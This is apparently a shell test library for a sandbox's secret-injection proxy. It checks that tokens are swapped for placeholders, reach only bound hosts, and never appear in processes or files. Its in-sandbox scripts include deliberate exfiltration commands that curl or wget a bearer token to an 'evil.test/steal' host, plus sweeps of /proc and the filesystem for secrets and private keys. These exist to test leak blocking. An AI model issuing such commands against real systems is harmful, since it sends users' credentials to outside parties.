# Shared by the [[secrets]] tests of every backend (tests/integration/
# secrets.sh, vm-network.sh, docker-network.sh; sourced after tap.sh and
# cordon.sh, with XDG_CONFIG_HOME set). secrets_setup makes random
# sentinel values (env: and file: sources), a header-logging server on the
# host's loopback that answers only "auth=ok NAME" or "auth=bad" (the
# values never travel back in), the user configuration and a hosts file.
# The values are handed to the in-sandbox sweep reversed, so that no
# command line inside holds them.
. "$CORDON_SRC/tests/lib/pki.sh"
secrets_setup() {
    secret_port=$((20000 + (RANDOM % 20000)))
    secret_log="$TEST_TMP/secret-server.log"
    secret_hosts="$TEST_TMP/secret-hosts"
    env_value="SENTINEL-env-$RANDOM$RANDOM$RANDOM"
    file_value="SENTINEL-file-$RANDOM$RANDOM$RANDOM"
    printf '%s\n' "$file_value" >"$TEST_TMP/token-file"
    chmod 600 "$TEST_TMP/token-file"
    export HOST_API_TOKEN=$env_value
    EXPECT_ENV=$env_value EXPECT_FILE=$file_value \
        /usr/bin/python3 "$CORDON_SRC/tests/integration/secret-server.py" "$secret_port" \
        "$secret_log" >/dev/null 2>&1 &
    cleanup_pids+=($!)
    local i
    for i in $(seq 100); do
        bash -c "exec 3<>/dev/tcp/127.0.0.1/$secret_port" 2>/dev/null && break
        sleep 0.1
    done
    echo "127.0.0.1 api.test evil.test" >"$secret_hosts"
    mkdir -p "$XDG_CONFIG_HOME/cordon"
    cat >>"$XDG_CONFIG_HOME/cordon/config.toml" <<EOF2

[[secrets]]
name = "API_TOKEN"
from = "env:HOST_API_TOKEN"
hosts = ["api.test"]
header = "Authorization"
plain_http = true

[[secrets]]
name = "FILE_TOKEN"
from = "file:$TEST_TMP/token-file"
hosts = ["api.test"]
plain_http = true
EOF2
    reversed_values="$(printf '%s' "$env_value" | rev) $(printf '%s' "$file_value" | rev)"
    secret_rules=(--net-hosts-file "$secret_hosts" --allow-host api.test --allow-host evil.test
        --allow-host "127.0.0.1:$secret_port")
}

# The script run inside (bash; FETCH is "curl" or "wget"): the variables,
# one request to the bound host, one leak attempt, then the sweep of every
# process's environ and cmdline (and memory, with python3 and sweep.py in
# the working directory) and of the files outside the read-only system
# directories (/opt too: docker-network.sh's HTTPS image mounts the host's
# /usr at /opt/host-usr).
secrets_script() { # secrets_script FETCH
    local get
    if [ "$1" = curl ]; then
        get='curl -sS -m 20 -H "Authorization: Bearer $1" "$2" 2>&1'
    else
        get='wget -q -O - --header "Authorization: Bearer $1" "$2" 2>&1'
    fi
    cat <<EOF2
get() { $get; }
echo "api=\$API_TOKEN file=\$FILE_TOKEN src=\${HOST_API_TOKEN-unset}"
echo "bound: \$(get "\$API_TOKEN" http://api.test:$secret_port/user)"
echo "leak: \$(get "\$FILE_TOKEN" http://evil.test:$secret_port/steal)"
if command -v python3 >/dev/null && [ -f sweep.py ]; then python3 sweep.py $reversed_values; fi
for v in $reversed_values; do printf '%s\n' "\$v" | rev; done >/dev/shm/.n
hits=0
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    if tr '\0' '\n' <"\$f" 2>/dev/null | grep -qF -f /dev/shm/.n; then echo "found in \$f"; hits=1; fi
done
echo "proc-hits=\$hits"
for d in /* /dev/shm; do
    case \$d in /proc|/sys|/dev|/usr|/opt|/bin|/sbin|/lib|/lib32|/lib64|/libx32) continue;; esac
    grep -rlsF -f /dev/shm/.n "\$d" 2>/dev/null
done | grep -v '^/dev/shm/.n\$' | head -3 >/dev/shm/.hits
rm -f /dev/shm/.n; echo "file-hits=\$(wc -l </dev/shm/.hits)"; cat /dev/shm/.hits
EOF2
}

# Assertions on $out of a run of secrets_script (TAG names the backend).
secrets_assert() { # secrets_assert TAG
    like "$1: the variables hold placeholders" "$out" \
        "api=cordon-secret-API_TOKEN-[0-9a-f]{32} file=cordon-secret-FILE_TOKEN-[0-9a-f]{32} src=unset"
    like "$1: the bound host got the real value (substituted by the proxy)" "$out" "bound: auth=ok ENV"
    like "$1: the server saw the value, never a placeholder" \
        "$(grep -c "Bearer $env_value" "$secret_log") $(grep -c cordon-secret- "$secret_log")" "^[1-9][0-9]* 0$"
    like "$1: a placeholder to another host is refused as an attempted leak" "$out" \
        "leak: .*(403|attempted leak)"
    like "$1: no value in any process's environ or cmdline inside" "$out" "proc-hits=0"
    like "$1: no value in any file inside" "$out" "file-hits=0"
    unlike "$1: no value in the output" "$out" "SENTINEL-"
}

# ---- HTTPS (TLS interception, docs/network.md), after secrets_setup ----
# secrets_tls_setup: the servers' own CA (openssl), an HTTPS header-logging
# server on the host's loopback with a certificate from it for api.test,
# evil.test and rules.test, and the user configuration the proxy needs:
# network.ca_file (it verifies that server against the CA), method and
# path rules for rules.test, and a catch-all rule for evil.test (so that
# it is intercepted: a placeholder sent there inside TLS is seen, and
# refused as a leak). tls_rules are the options that allow it.
secrets_tls_setup() {
    tls_port=$((secret_port + 1))
    tls_log="$TEST_TMP/tls-server.log"
    local pki="$TEST_TMP/pki" i
    make_test_pki "$pki" "test servers CA" api.test DNS:api.test,DNS:evil.test,DNS:rules.test
    chmod 755 "$pki" && chmod 644 "$pki"/*
    tls_ca="$pki/ca.pem"
    EXPECT_ENV=$env_value EXPECT_FILE=$file_value \
        /usr/bin/python3 "$CORDON_SRC/tests/integration/secret-server.py" "$tls_port" "$tls_log" \
        "$pki/srv.pem" "$pki/srv.key" >/dev/null 2>&1 &
    cleanup_pids+=($!)
    for i in $(seq 100); do
        bash -c "exec 3<>/dev/tcp/127.0.0.1/$tls_port" 2>/dev/null && break
        sleep 0.1
    done
    echo "127.0.0.1 api.test evil.test rules.test" >"$secret_hosts"
    cat >>"$XDG_CONFIG_HOME/cordon/config.toml" <<EOF2

[network]
ca_file = "$tls_ca"
http_rules = ["GET rules.test/repos/*", "* evil.test/*"]
EOF2
    tls_rules=("${secret_rules[@]}" --allow-host rules.test --allow-host "127.0.0.1:$tls_port")
}

# The script run inside (bash, with curl, python3, node and git): the
# bundle, each client's request with the placeholder to the bound host, a
# leak to another intercepted host, the method rules, then the sweep of
# secrets_script (environ, cmdline, files; memory with sweep.py).
secrets_tls_script() {
    cat <<EOF2
echo "bundle-certs=\$(grep -c 'BEGIN CERTIFICATE' /etc/ssl/certs/ca-certificates.crt) ssl=\$SSL_CERT_FILE node=\$NODE_EXTRA_CA_CERTS"
touch /etc/ssl/certs/ca-certificates.crt 2>/dev/null && echo bundle-writable || echo bundle-readonly
grep -rlsE "BEGIN (EC |)PRIVATE KEY" / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev --exclude-dir=usr --exclude-dir=opt | grep -v "^\$PWD/" | head -3; echo keys-done
echo "curl: \$(curl -sS -m 20 -H "Authorization: Bearer \$API_TOKEN" https://api.test:$tls_port/curl 2>&1)"
python3 -c "
import os, urllib.request
r = urllib.request.Request('https://api.test:$tls_port/py', headers={'Authorization': 'Bearer ' + os.environ['API_TOKEN']})
print('py:', urllib.request.urlopen(r, timeout=20).read().decode().strip())" 2>&1 | tail -1
node -e "
const http = require('http'), tls = require('tls');
http.request({host: '127.0.0.1', port: 3128, method: 'CONNECT', path: 'api.test:$tls_port'}).on('connect', (res, sock) => {
  const s = tls.connect({socket: sock, servername: 'api.test'}, () => {
    s.write('GET /node HTTP/1.1\r\nHost: api.test:$tls_port\r\nAuthorization: Bearer ' + process.env.API_TOKEN + '\r\nConnection: close\r\n\r\n');
  });
  let body = ''; s.on('data', d => body += d); s.on('end', () => console.log('node:', body.split('\r\n\r\n')[1].trim()));
  s.on('error', e => console.log('node error', e.message));
}).end();" 2>&1
git -c http.extraHeader="Authorization: Bearer \$API_TOKEN" ls-remote https://api.test:$tls_port/r.git >/dev/null 2>&1; echo git-done
echo "leak: \$(curl -sS -m 20 -H "Authorization: Bearer \$API_TOKEN" https://evil.test:$tls_port/steal 2>&1)"
echo "rule-get: \$(curl -sS -m 20 -o /dev/null -w '%{http_code}' https://rules.test:$tls_port/repos/me/x)"
echo "rule-delete: \$(curl -sS -m 20 -X DELETE https://rules.test:$tls_port/repos/me/x 2>&1)"
$(secrets_script curl)
EOF2
}

# Assertions on $out of a run of secrets_tls_script (TAG names the backend).
secrets_tls_assert() { # secrets_tls_assert TAG
    local n_host
    n_host=$(grep -c "BEGIN CERTIFICATE" /etc/ssl/certs/ca-certificates.crt)
    like "$1 https: the bundle inside is the host's plus the session CA, named by the variables" \
        "$out" "bundle-certs=$((n_host + 1)) ssl=/etc/ssl/certs/ca-certificates.crt node=/etc/ssl/certs/ca-certificates.crt"
    like "$1 https: the bundle is read-only inside" "$out" "bundle-readonly"
    like "$1 https: no private key in any file inside (the CA's stays in the host's proxy)" "$out" \
        $'bundle-readonly\nkeys-done'
    like "$1 https: curl: the bound host gets the real value" "$out" "curl: auth=ok ENV"
    like "$1 https: Python (urllib, system store): the value arrives" "$out" "py: auth=ok ENV"
    like "$1 https: Node (tls over CONNECT, NODE_EXTRA_CA_CERTS): the value arrives" "$out" "node: auth=ok ENV"
    like "$1 https: git's own request reached the server with the value" \
        "$(grep -A12 'GET /r.git/info/refs' "$tls_log")" "Authorization: Bearer $env_value"
    unlike "$1 https: the server never saw a placeholder" "$(cat "$tls_log")" "cordon-secret-"
    like "$1 https: a placeholder to another intercepted host is refused as an attempted leak" "$out" \
        "leak: cordon: network: attempted leak: the placeholder of secret API_TOKEN in a request to evil.test:$tls_port"
    unlike "$1 https: ... and nothing reached that host" "$(cat "$tls_log")" "/steal"
    like "$1 https: an http_rule allows what it names" "$out" "rule-get: 200"
    like "$1 https: a refusal names the rule" "$out" \
        "rule-delete: cordon: network: DELETE rules.test/repos/me/x refused: no network.http_rules entry for rules.test allows it \\(the first is \"GET rules.test/repos/\\*\"\\)"
    unlike "$1 https: the refused request did not reach the server" "$(cat "$tls_log")" "DELETE"
    secrets_assert "$1 https"
}
